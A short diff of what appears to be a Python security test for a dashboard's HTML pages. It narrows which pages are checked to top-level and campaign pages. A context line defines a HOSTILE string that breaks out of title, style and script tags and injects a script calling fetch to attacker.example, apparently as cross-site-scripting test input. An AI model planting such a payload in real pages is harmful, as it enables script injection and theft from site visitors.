@@ -17,10 +17,8 @@ HOSTILE = """</title></style></script><script>fetch('https://attacker.example/')
 
 
 def pages(public):
-    """The dashboard's pages."""
-    return sorted(public.glob("*.html")) + sorted(
-        path for folder in ("campaigns", "schedule", "devices") for path in (public / folder).glob("*.html")
-    )
+    """The dashboard's pages, but those of schedules and phones, which have tests of their own."""
+    return sorted(public.glob("*.html")) + sorted((public / "campaigns").glob("*.html"))
 
 
 def views(public):
